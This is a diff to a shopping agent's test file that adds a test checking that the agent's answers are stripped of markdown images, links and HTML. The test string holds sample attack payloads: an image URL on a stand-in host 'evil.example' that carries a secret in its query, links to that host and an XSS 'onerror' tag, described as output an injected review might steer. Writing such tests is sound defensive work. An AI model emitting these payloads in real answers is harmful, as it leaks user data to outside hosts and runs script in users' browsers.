@@ -211,3 +211,17 @@ def test_a_huge_description_is_clipped(shop_agent: Agent, monkeypatch: pytest.Mo
     assert isinstance(events[-1], AnswerStep) and len(events[-1].text) < 20_000
     stored_results = [r for name, _, r in stored_calls(shop_agent, conv.key) if name == "get_product"]
     assert stored_results and len(str(stored_results[0])) < 50_000
+
+
+def test_answers_carry_no_images_links_or_html(shop_agent: Agent) -> None:
+    """A model's answer (say, one an injected review steered) cannot make the browser fetch a URL."""
+    from agent.text import inert_markup
+
+    text = ("Here you go. ![x](https://evil.example/p.png?d=secret) [click](https://evil.example/?q=1) "
+            "<https://evil.example/a> <img src=x onerror=alert(1)> Try [#12].")
+    clean = inert_markup(text)
+    assert "evil.example/p.png" not in clean and "](" not in clean and "<img" not in clean
+    assert "click" in clean and "[#12]" in clean
+    agent = Agent(shop_agent.services, Saying(text))
+    final = list(agent.respond(agent.open(), UserMessage("hello")))[-1]
+    assert "evil.example/p.png" not in final.text and "<img" not in final.text and "](http" not in final.text
